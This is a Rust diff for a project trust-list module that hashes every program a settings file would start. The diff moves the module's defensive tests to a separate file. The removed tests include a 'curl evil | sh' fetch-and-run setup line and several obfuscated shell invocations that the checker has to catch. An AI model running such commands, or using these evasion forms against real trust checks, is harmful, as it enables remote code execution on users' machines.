@@ -2,8 +2,10 @@
 //! them. The list is in the user's own folder, never in the repository.
 
 mod commands;
+mod companions;
 mod named_files;
 mod reach;
+mod well_known;
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -44,7 +46,7 @@ struct TrustedProject {
 }
 
 const MOST_LIST_BYTES: u64 = 1 << 20;
-/// Larger files are named by their size: nobody reads them before they allow them.
+/// Larger files are named by their size: no person reads them before allowing them.
 const MOST_PROGRAM_BYTES: u64 = 64 << 20;
 
 impl Programs {
@@ -221,199 +223,4 @@ fn file_name(project: &Path) -> String {
 
 #[cfg(test)]
 #[expect(clippy::disallowed_methods, reason = "tests make files of their own")]
-mod tests {
-    use super::*;
-
-    fn settings(text: &str) -> RunnerSettings {
-        baton_wire::project_file::parse(text).unwrap().runner
-    }
-
-    #[test]
-    fn trust_is_in_what_would_be_started_and_ends_when_that_changes() {
-        let (project, state) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-        std::fs::write(project.path().join("agent.py"), "print(1)").unwrap();
-        let dir = Dir::open(project.path()).unwrap();
-        let file =
-            settings("[executors.mine]\nkind = \"command\"\nrun = [\"python3\", \"agent.py\"]\n");
-        let list = TrustList::new(state.path().join("baton/trusted"));
-        let first = Programs::of(&dir, &file, &[], &[]);
-        assert_ne!(list.trusted(project.path()).unwrap(), first, "a new project is not trusted");
-        list.allow(project.path(), &first).unwrap();
-        assert_eq!(list.trusted(project.path()).unwrap(), first);
-        assert_ne!(list.trusted(state.path()).unwrap(), first, "another place is another project");
-
-        std::fs::write(project.path().join("agent.py"), "print(2)").unwrap();
-        let now = Programs::of(&dir, &file, &[], &[]);
-        let changes = now.changes_since(&list.trusted(project.path()).unwrap());
-        assert!(matches!(changes.as_slice(), [TrustChange::Changed { .. }]), "{changes:?}");
-        let other = settings("[runner]\nsetup = [\"curl evil | sh\"]\n");
-        let changes = Programs::of(&dir, &other, &[], &[]).changes_since(&first);
-        assert_eq!(changes.len(), 2, "one came and one went: {changes:?}");
-    }
-
-    fn programs(project: &Path, run: &[&str]) -> Programs {
-        let run: Vec<String> = run.iter().map(|it| format!("{it:?}")).collect();
-        let text = format!("[executors.mine]\nkind = \"command\"\nrun = [{}]\n", run.join(", "));
-        Programs::of(&Dir::open(project).unwrap(), &settings(&text), &[], &[])
-    }
-
-    #[test]
-    fn every_file_that_a_command_names_in_any_way_is_a_part_of_what_is_trusted() {
-        let project = tempfile::tempdir().unwrap();
-        std::fs::create_dir(project.path().join("tools")).unwrap();
-        for run in [
-            &["sh", "tools/a"][..],
-            &["./tools/a"],
-            &["tools/a"],
-            &["sh", "-c", "cd . && tools/a --fast; true"],
-            &["sh", "-c", "(. ./tools/a)"],
-            &["node", "--require=./tools/a", "x"],
-            &["agent", "--config", "tools/../tools/a"],
-            &["agent", "@tools/a"],
-        ] {
-            std::fs::write(project.path().join("tools/a"), "1").unwrap();
-            let before = programs(project.path(), run);
-            assert_eq!(before.problems().count(), 0, "{before:?}");
-            std::fs::write(project.path().join("tools/a"), "2").unwrap();
-            assert_ne!(programs(project.path(), run), before, "{run:?}");
-        }
-    }
-
-    #[test]
-    fn what_cannot_be_followed_is_tied_to_every_file_and_said_so() {
-        let project = tempfile::tempdir().unwrap();
-        let root = project.path().canonicalize().unwrap();
-        std::fs::create_dir(root.join("tools")).unwrap();
-        std::fs::write(root.join("tools/a.sh"), "1").unwrap();
-        std::fs::write(root.join("tools/Makefile"), "1").unwrap();
-        let roundabout = format!(
-            "{}/../{}/tools/a.sh",
-            root.display(),
-            root.file_name().unwrap().to_str().unwrap()
-        );
-        let followed: [&[&str]; 3] =
-            [&["python3", "tools"], &["make", "-C", "tools"], &["pytest", "--rootdir=tools"]];
-        let unknown: [&[&str]; 15] = [
-            &["sh", "-c", "cd tools && sh ./a.sh"],
-            &["sh", &roundabout],
-            &["make", "-ftools/Makefile"],
-            &["make", "-Ctools"],
-            &["sh", "-c", "sh too''ls/a.sh"],
-            &["sh", "-c", "sh tools/\\a.sh"],
-            &["sh", "-c", "x=tools; sh $x/a.sh"],
-            &["sh", "-c", "sh $(echo tools)/a.sh"],
-            &["sh", "-c", "sh ~+/tools/a.sh"],
-            &["sh", "-c", "for f in *; do sh $f; done"],
-            &["find", ".", "-name", "a.sh", "-exec", "sh", "{}", ";"],
-            &["sh", "-c", "ls tools | xargs sh"],
-            &["python3", "-m", "tools"],
-            &["sh", "tools/../tools/a.sh"],
-            &["env", "bash", "-c", "sh `ls tools/a.sh`"],
-        ];
-        let all =
-            followed.iter().map(|it| (*it, false)).chain(unknown.iter().map(|it| (*it, true)));
-        for (run, is_unknown) in all {
-            std::fs::write(root.join("tools/a.sh"), "1").unwrap();
-            std::fs::write(root.join("tools/Makefile"), "1").unwrap();
-            let before = programs(&root, run);
-            assert_eq!(before.problems().count(), 0, "{before:?}");
-            let is_said = before.0["executor mine"].contains(reach::CANNOT_FOLLOW);
-            assert_eq!(is_said, is_unknown, "{before:?}");
-            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
-            std::fs::write(root.join("tools/Makefile"), "2").unwrap();
-            assert_ne!(programs(&root, run), before, "{run:?}");
-        }
-        for run in [&["cargo", "test"][..], &["npm", "test"], &["grep", "-q", "ok", "tools/a.sh"]] {
-            let before = programs(&root, run);
-            std::fs::write(root.join("tools/a.sh"), "3").unwrap();
-            assert_eq!(programs(&root, run), before, "it is trusted as what it is: {run:?}");
-            std::fs::write(root.join("tools/a.sh"), "2").unwrap();
-        }
-    }
-
-    #[test]
-    fn variables_and_copied_files_are_a_part_of_it_too() {
-        let project = tempfile::tempdir().unwrap();
-        let dir = Dir::open(project.path()).unwrap();
-        let text = "[runner]\nsetup = [\"sh ./a\"]\nenv_files = [\".env\"]\n[runner.env]\nBASH_ENV = \"b\"\n\
-            [executors.mine]\nkind = \"scripted\"\nscript = \"c\"\n";
-        for name in ["a", "b", "c", ".env"] {
-            std::fs::write(project.path().join(name), "1").unwrap();
-        }
-        for name in ["a", "b", "c", ".env"] {
-            let before = Programs::of(&dir, &settings(text), &[], &[]);
-            std::fs::write(project.path().join(name), "2").unwrap();
-            let changes = Programs::of(&dir, &settings(text), &[], &[]).changes_since(&before);
-            assert_eq!(changes.len(), 1, "{name}: {changes:?}");
-        }
-    }
-
-    #[test]
-    fn links_and_programs_that_only_a_workspace_could_have_are_never_trusted() {
-        let (project, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
-        std::fs::write(outside.path().join("a"), "1").unwrap();
-        let link = std::os::unix::fs::symlink::<std::path::PathBuf, _>;
-        link(outside.path().to_owned(), project.path().join("folder")).unwrap();
-        link(outside.path().join("a"), project.path().join("link")).unwrap();
-        for run in [
-            &["sh", "link"][..],
-            &["./link"],
-            &["folder/a"],
-            &["sh", "-c", "folder/a"],
-            &["./missing"],
-            &["../a"],
-        ] {
-            let programs = programs(project.path(), run);
-            assert_eq!(programs.problems().count(), 1, "{programs:?}");
-            assert!(!programs.is_allowed_by(&programs), "{run:?}");
-        }
-    }
-
-    #[test]
-    fn the_same_letters_cut_into_other_words_are_another_command() {
-        let project = tempfile::tempdir().unwrap();
-        let lines = [
-            &["sh", "-c", "echo a"][..],
-            &["sh", "-c", "echo", "a"],
-            &["sh", "-c echo a"],
-            &["sh", "-c", "'echo a'"],
-            &["sh", "-c", "echo a", "b"],
-        ];
-        let all = lines.map(|run| programs(project.path(), run));
-        for (n, one) in all.iter().enumerate() {
-            for other in &all[n + 1..] {
-                assert_ne!(one, other);
-            }
-        }
-        assert_eq!(all[0].0["executor mine"], "sh -c 'echo a'", "as it would be typed");
-        let dir = Dir::open(project.path()).unwrap();
-        let with = |env: &str| {
-            let text = format!("[runner]\nsetup = [\"true\"]\n[runner.env]\n{env}\n");
-            Programs::of(&dir, &settings(&text), &[], &[])
-        };
-        assert_ne!(with("A = \"1\"\nB = \"2\""), with("A = \"1 B=2\""), "variables alike");
-    }
-
-    #[test]
-    fn what_is_known_only_when_it_is_started_is_never_trusted_and_patterns_are_hashed() {
-        let project = tempfile::tempdir().unwrap();
-        std::fs::write(project.path().join("a.sh"), "1").unwrap();
-        for run in [
-            &["sh", "/proc/self/cwd/a.sh"][..],
-            &["sh", "-c", "cat /dev/fd/0 | sh"],
-            &["sh", "/dev/stdin"],
-        ] {
-            let programs = programs(project.path(), run);
-            assert!(!programs.is_allowed_by(&programs), "{programs:?}");
-            let (_, why) = programs.problems().next().unwrap();
-            assert!(why.contains("write the path of the file"), "{why}");
-        }
-        for run in [&["sh", "-c", "sh ./*.sh"][..], &["sh", "-c", ". $PWD/a.sh"]] {
-            std::fs::write(project.path().join("a.sh"), "1").unwrap();
-            let before = programs(project.path(), run);
-            assert_eq!(before.problems().count(), 0, "{before:?}");
-            std::fs::write(project.path().join("a.sh"), "2").unwrap();
-            assert_ne!(programs(project.path(), run), before, "{run:?}");
-        }
-    }
-}
+mod tests;
